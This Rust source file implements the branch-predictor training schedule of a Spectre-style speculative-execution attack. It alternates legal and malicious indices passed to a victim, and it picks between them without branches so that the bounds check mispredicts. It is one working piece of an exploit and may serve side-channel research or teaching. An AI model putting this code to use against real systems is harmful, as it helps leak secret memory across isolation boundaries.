// Branch predictor training schedule.
//
// A burst hands the victim `burst_len` indices. Round 0 and every
// `training_runs + 1`th round after it carry the malicious index, the rest carry
// a legal one, so the bounds check has just been seen passing `training_runs`
// times whenever the malicious index shows up.

/// Multiplier applied to `training_runs` to size one burst.
pub const BURST_MULTIPLIER: usize = 6;

/// Largest schedule period the mask arithmetic in [`select_index`] supports.
pub const MAX_TRAINING_RUNS: usize = 0xFFFF;

/// What a given round of a burst does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Phase {
    /// Call the victim with a legal index to bias the predictor.
    Training,
    /// Call the victim with the malicious index.
    Probe,
}

impl Phase {
    pub fn of(round: usize, training_runs: usize) -> Self {
        match round % (training_runs + 1) {
            0 => Phase::Probe,
            _ => Phase::Training,
        }
    }
}

/// Number of victim calls in one burst.
pub fn burst_len(training_runs: usize) -> usize {
    training_runs * BURST_MULTIPLIER + 1
}

/// Number of malicious calls in one burst.
pub fn malicious_calls_per_burst(training_runs: usize) -> usize {
    (0..burst_len(training_runs))
        .filter(|&round| Phase::of(round, training_runs) == Phase::Probe)
        .count()
}

/// Index for `round`, following the same schedule as [`Phase::of`] but
/// without a conditional branch: any branch here would share predictor state
/// with the bounds check being trained.
#[inline(always)]
pub fn select_index(round: usize, training_runs: usize, legal: usize, malicious: usize) -> usize {
    // 0xFFFF...0000 on a probe round (0 - 1 wraps), zero otherwise
    let mut mask = (round % (training_runs + 1)).wrapping_sub(1) & !0xFFFF;
    // all ones on a probe round, zero otherwise
    mask |= mask >> 16;
    legal ^ (mask & (malicious ^ legal))
}
